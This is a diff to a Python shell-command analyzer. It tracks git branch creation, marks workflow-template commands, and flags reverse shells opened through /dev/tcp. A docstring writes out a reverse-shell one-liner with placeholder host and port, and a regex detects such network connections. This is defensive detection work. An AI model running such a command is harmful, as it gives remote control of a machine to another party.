@@ -77,6 +77,18 @@ READING_VERBS = (
 
 _SCOPES = {Scope.ONE: 0, Scope.UNKNOWN: 1, Scope.MANY: 2, Scope.ALL: 3}
 _WRITES = frozenset((EffectKind.WRITE, EffectKind.OVERWRITE))
+
+
+def _is_template(call: Call) -> bool:
+    """Whether a command can run only after a workflow filled it in: for a shell `${{` is a mistake, and it stops there."""
+    if call.language is not Language.BASH:
+        return False
+    words = [*call.words, *(redirection.target for redirection in call.redirections)]
+    return any(not word.known and "${{" in word.text for word in words)
+
+
+_CONNECTION = re.compile(r"/dev/(?:tcp|udp)/(?!(?:localhost|127\.[\d.]+)/)")
+_MAKES_BRANCH = ("-b", "-B", "--orphan", "-c", "-C", "--create", "--force-create")
 _MAKES = frozenset((EffectKind.WRITE, EffectKind.OVERWRITE, EffectKind.CREATE))
 _DESTROYS = frozenset((EffectKind.DELETE, EffectKind.OVERWRITE, EffectKind.DISCARD))
 _REACHES_EMPTY = frozenset((*_DESTROYS, EffectKind.ALTER, EffectKind.GRANT, EffectKind.EXPOSE))
@@ -169,6 +181,9 @@ class _Interpreter:
         self.targets = 0
         self.effects_of: dict[int, tuple[Call, list[Effect]]] = {}
         self.own: set[str] = set()
+        self.on_orphan = False  # an earlier call began a branch without history, of which nothing is committed yet
+        self.connection: Word | None = None  # what an earlier call of the action opened to another machine
+        self.made_branches: set[str] = set()  # names that an earlier call of the action gave to a branch of its own
         self.has_staged = False  # an earlier call of the action put what is new into the index of git
         self.downloaded: dict[str, str] = {}
         self.mounts: dict[str, tuple[tuple[str, str], ...]] = {}
@@ -249,6 +264,10 @@ class _Interpreter:
             self._program(call, frame)
         for redirection in call.redirections:
             self._redirection(redirection, call)
+        self._shell_over_network(call)
+        if len(self.effects) > first and _is_template(call):
+            told = [replace(effect, detail={**effect.detail, "runs": "in_job"}) for effect in self.effects[first:]]
+            self.effects[first:] = told
         effects = self.effects[first:]
         self.effects_of[id(original)] = (original, effects)
         self._remember(call, effects)
@@ -276,6 +295,11 @@ class _Interpreter:
             self._by_verb([*parsed.path, *(word.text for word in parsed.operands)], call, Place.REMOTE)
         if call.program == "git" and parsed.path[:1] in (["add"], ["stage"]):
             self.has_staged = True
+        if call.program == "git" and parsed.path[:1] in (["checkout"], ["switch"]):
+            self.made_branches |= {word.text for name in _MAKES_BRANCH for word in parsed.values_of(name)}
+            self.on_orphan = bool(parsed.values_of("--orphan"))
+        if call.program == "git" and parsed.path[:1] == ["tag"]:
+            self.made_branches |= {word.text for word in parsed.operands[:1]}
         for level in parsed.levels:
             for row in level.effects:
                 if parsed.holds(row.when):
@@ -378,6 +402,12 @@ class _Interpreter:
             effect = self._executed(effect, call)
         elif self.has_staged and row.kind is EffectKind.DISCARD and effect.source == "git reset":
             effect = replace(effect, detail={**detail, "staged": "yes"})
+        elif self.on_orphan and row.kind is EffectKind.DISCARD and effect.source == "git rm":
+            effect = replace(effect, detail={**detail, "made": "here"})
+        elif self.made_branches and effect.source == "git push" and effect.kind is EffectKind.OVERWRITE:
+            names = {target.text.removeprefix("+").rpartition(":")[2] for target in targets}
+            if names <= {*self.made_branches, "", "HEAD"}:
+                effect = replace(effect, detail={**detail, "made": "here"})
         self._add(effect)
         if row.kind is EffectKind.EXECUTE and detail.get("code") == "inline":
             for word in words:
@@ -695,6 +725,27 @@ class _Interpreter:
                 self.own.add(path)
 
     # Redirections
+
+    def _shell_over_network(self, call: Call) -> None:
+        """A shell that takes its commands from a connection, or one opened before: `bash -i >& /dev/tcp/HOST/PORT 0>&1`."""
+        opened = [word for redirection in call.redirections if _CONNECTION.match((word := redirection.target).text)]
+        if opened and call.program in ("exec", ""):
+            self.connection = opened[0]
+        elif call.program in SHELLS and all(word.text.startswith("-") for word in call.words):
+            connection = opened[0] if opened else self.connection
+            if connection is not None:
+                self._add(
+                    Effect(
+                        kind=EffectKind.EXECUTE,
+                        object=ObjectKind.NETWORK,
+                        span=call.span,
+                        source=call.program,
+                        targets=(Target(connection.text, Place.REMOTE),),
+                        sure=call.sure,
+                        elevated=call.elevated,
+                        detail={"code": "interactive_shell", "says": "gives a shell to another machine"},
+                    )
+                )
 
     def _redirection(self, redirection: Redirection, call: Call) -> None:
         word = redirection.target
